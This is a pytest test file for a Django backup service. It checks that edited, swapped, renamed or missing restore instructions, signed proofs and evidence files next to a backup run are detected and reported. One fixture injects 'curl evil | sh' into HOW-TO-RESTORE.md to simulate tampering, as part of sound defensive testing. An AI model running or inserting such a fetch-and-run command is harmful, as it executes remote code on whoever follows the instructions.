"""What lies beside a run and no manifest names: each paper edited, removed or of another run is found, or said."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command

from backups.archive.manifest import Manifest
from backups.archive.signed_json import sealed
from backups.facts.store import evidence_key
from backups.models import Policy, Proof, Run
from backups.proof.prove import Verdict, store_proof
from backups.stores import howto
from backups.stores.howto import HOWTO_KEY
from backups.stores.papers import paper_problems, proof_key
from backups.stores.replication import catch_up
from operations.engine.request import request
from operations.models import Operation
from providers.storage.base import Store
from tests.backups.conftest import ended, exported
from tests.backups.test_offline import SIGNER, VERIFIER, verify
from tests.offline import verify_backup

Change = Callable[[Path, Path], None]  # the run's directory, another run's


def _edit(name: str, old: str, new: str) -> Change:
    def change(mine: Path, other: Path) -> None:
        (path,) = (mine / name).parent.glob(Path(name).name)
        path.write_text(path.read_text().replace(old, new))

    return change


def _swap(pattern: str) -> Change:
    return lambda mine, other: shutil.copy(next(other.glob(pattern)), next(mine.glob(pattern)))


def _renamed(mine: Path, other: Path) -> None:
    next(mine.glob("proof-*")).rename(mine / "proof-20990101T000000000000Z.json")


def _pipe(mine: Path, other: Path) -> None:
    os.mkfifo(mine / "proof-0.json")


def _away(pattern: str) -> Change:
    return lambda mine, other: next(mine.glob(pattern)).unlink()


FOUND: dict[str, tuple[Change, str]] = {
    "instructions edited": (_edit("../../HOW-TO-RESTORE.md", "age -d", "curl evil | sh; age -d"), "do not follow it"),
    "instructions emptied": (lambda mine, other: (mine / "../../HOW-TO-RESTORE.md").write_text(""), "do not follow it"),
    "proof edited": (_edit("proof-*.json", '"status":"failed"', '"status":"proven"'), "edited or damaged"),
    "proof of another run": (_swap("proof-*.json"), "replayed or moved"),
    "proof under another name": (_renamed, "holds another proof than its name says"),
    "facts edited": (_edit("evidence.json", '"run"', '"ran"'), "edited or damaged"),
    "facts of another run": (_swap("evidence.json"), "replayed or moved"),
}
SAID: dict[str, tuple[Change, str]] = {
    "no instructions": (_away("../../HOW-TO-RESTORE.md"), "HOW-TO-RESTORE.md is not there"),
    "no proof": (_away("proof-*.json"), "No proof lies beside it"),
    "no facts": (_away("evidence.json"), "No facts about its chains"),
}


def _beside(store: Store, manifest: Manifest, at: str) -> None:
    verdict = Verdict(manifest.run, manifest.sha256, at, ("x",), (), 0, 0, 0, 0, "")
    store_proof(store, verdict, SIGNER)
    facts = {"run": manifest.run, "manifest_sha256": manifest.sha256}
    store.put_once(evidence_key(manifest.run), sealed(facts, SIGNER))


@pytest.fixture
def two(sampelit, store: Store) -> tuple[Manifest, Path, Path]:
    """A run that is looked at and another one, each with its papers."""
    mine, other = (exported(sampelit["export"], store, signer=SIGNER) for _ in range(2))
    _beside(store, mine, "2026-11-29T01:00:00.000000Z")
    _beside(store, other, "2026-11-29T01:00:00.000000Z")
    root = Path(store.url.removeprefix("file://")) / "runs"
    return mine, root / mine.run, root / other.run


def test_papers_that_are_as_they_were_written_are_quiet(two, store: Store, tmp_path: Path) -> None:
    code, said = verify(store, tmp_path)

    assert (code, paper_problems(store, two[0], VERIFIER)) == (0, []), said


@pytest.mark.parametrize("kind", FOUND)
def test_a_changed_paper_is_found_by_portal_and_verifier(kind: str, two, store: Store, tmp_path: Path) -> None:
    manifest, mine, other = two
    change, words = FOUND[kind]

    change(mine, other)

    (problem,) = paper_problems(store, manifest, VERIFIER)
    code, said = verify(store, tmp_path)
    assert words in problem
    assert code == 1
    assert words in said


@pytest.mark.parametrize("kind", SAID)
def test_a_missing_paper_is_said(kind: str, two, store: Store, tmp_path: Path) -> None:
    change, words = SAID[kind]

    change(*two[1:])

    code, said = verify(store, tmp_path)
    assert (code, words in said) == (0, True), said


def test_a_pipe_among_the_proofs_is_not_read(two, store: Store, tmp_path: Path) -> None:
    _pipe(*two[1:])

    code, said = verify(store, tmp_path)

    assert (code, "its proof-0.json is no file" in said) == (1, True)


@pytest.mark.django_db(transaction=True)
def test_the_portal_misses_what_it_wrote(run: Run, capsys, tmp_path: Path) -> None:
    root = Path(run.store_url.removeprefix("file://"))
    key = proof_key(Proof.objects.get(run=run).document)
    (root / key).unlink()

    with pytest.raises(SystemExit):
        call_command("verify_run", run.pk, "--json")

    found = json.loads(capsys.readouterr().out)
    assert found["problems"] == [f"{key} is gone from the store, where the portal wrote it."]


def test_the_command_says_that_the_instructions_are_not_there(two, store: Store, capsys, monkeypatch) -> None:
    monkeypatch.setenv("BACKUP_SIGNING_KEY", "")
    manifest, *places = two
    SAID["no instructions"][0](*places)

    call_command("verify_run", manifest.run, "--store", store.url, "--json")

    assert "HOW-TO-RESTORE.md is not there" in json.loads(capsys.readouterr().out)["note"]


def test_the_instructions_of_today_are_a_known_edition(store: Store) -> None:
    store.put_once(HOWTO_KEY, howto.TEXT.read_bytes())

    assert howto.problem(store) == ""
    assert verify_backup.EDITIONS == howto.EDITIONS


@pytest.mark.django_db(transaction=True)
def test_a_verification_looks_at_the_papers_in_both_stores(run: Run, production, tmp_path: Path, monkeypatch) -> None:
    """The rows stay proven; the operation fails and names each paper, and succeeds once they are back."""
    monkeypatch.setenv("SECOND_STORE", f"file://{tmp_path}/second")
    Policy.objects.filter(pk=run.policy_id).update(second_store_env="SECOND_STORE")
    assert catch_up() == 1
    by = User.objects.create_superuser("vera")

    def verified() -> Operation:
        return ended(request("backups.verify", by=by, environment=production, parameters={"run": run.pk}))

    assert verified().error == ""
    first, second = Path(run.store_url.removeprefix("file://")), tmp_path / "second"
    shutil.copytree(first, tmp_path / "kept")
    proof = next((first / "runs" / run.pk).glob("proof-*"))
    proof.unlink()
    FOUND["instructions edited"][0](first / "runs" / run.pk, first)
    (second / "runs" / run.pk / "manifest.json").write_text("{}")

    failed = verified()

    assert (failed.status, Run.objects.get(pk=run.pk).status) == ("failed", "proven")
    for words in (f"{proof.name} is gone from the store", "do not follow it", f"The manifest of {run}"):
        assert words in failed.error
    assert f"In file://{second}" in failed.error
    for place in (first, second):
        shutil.copytree(tmp_path / "kept", place, dirs_exist_ok=True)
    assert verified().status == "succeeded"
